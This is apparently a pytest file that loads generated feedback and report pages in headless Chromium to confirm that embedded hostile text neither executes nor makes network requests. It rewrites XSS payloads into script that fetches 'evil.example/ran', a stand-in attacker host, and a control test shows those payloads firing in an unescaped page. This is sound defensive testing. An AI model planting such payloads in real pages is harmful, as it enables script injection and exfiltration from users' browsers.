"""The pages in a real browser: whatever hostile text they hold, nothing runs, and nothing is fetched."""

from __future__ import annotations

import shutil
import subprocess
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hostile import HOSTILE, MARKDOWN, feedback, report

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
OPTIONS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--virtual-time-budget=3000",
]  # fmt: skip
# Each hostile text calls home where it would have opened a box.
ACTING = [text.replace("alert(1)", "fetch(`//evil.example/ran`)") for text in (*HOSTILE, *MARKDOWN)]

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")


class Site:
    """A folder served on this machine, which also answers for evil.example; the paths that were asked for."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.asked = asked = list[str]()

        class Handler(SimpleHTTPRequestHandler):
            def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
                asked.append(getattr(self, "path", "no HTTP"))  # https, for example

        handler = partial(Handler, directory=folder)
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def open(self, page: str, folder: Path) -> str:
        """What chromium makes of a page, with scripts run and all fetched, as text."""
        address = f"127.0.0.1:{self.server.server_port}"
        # Whatever else the browser would ask of the world on its own account is not found.
        rules = (
            f"--host-resolver-rules=MAP evil.example {address}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
        )
        command = [str(CHROMIUM), *OPTIONS, rules, f"--user-data-dir={folder}", "--dump-dom"]
        done = subprocess.run(
            [*command, f"http://{address}/{page}"], capture_output=True, text=True, timeout=120
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    @property
    def foreign(self) -> list[str]:
        """Everything that was asked for but pages and the browser's own icon."""
        return [path for path in self.asked if path.split("?")[0] not in PAGES]


PAGES = ("/feedback.html", "/report.html", "/open.html", "/favicon.ico")


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    folder = tmp_path / "site"
    folder.mkdir()
    site = Site(folder)
    yield site
    site.server.shutdown()
    site.server.server_close()


def test_a_page_without_defences_would_act(site: Site, tmp_path: Path) -> None:
    """The control: the same texts, put into a page as they are, run and fetch, and the site hears of it."""
    body = "\n".join(ACTING[:6])
    (site.folder / "open.html").write_text(f"<!doctype html><title>open</title>{body}")
    site.open("open.html", tmp_path / "profile")
    assert "/ran" in site.foreign


def test_hostile_text_neither_runs_nor_fetches(site: Site, tmp_path: Path) -> None:
    text = "\n\n".join(ACTING)
    feedback(site.folder, text, code=text, answer=text)
    report(site.folder, text)
    for page in ("feedback.html", "report.html"):
        dom = site.open(page, tmp_path / page)
        assert "<footer>" in dom  # the page is there, to its end
        assert site.foreign == []
    assert {path for path in site.asked if path != "/favicon.ico"} == {
        "/feedback.html",
        "/report.html",
    }
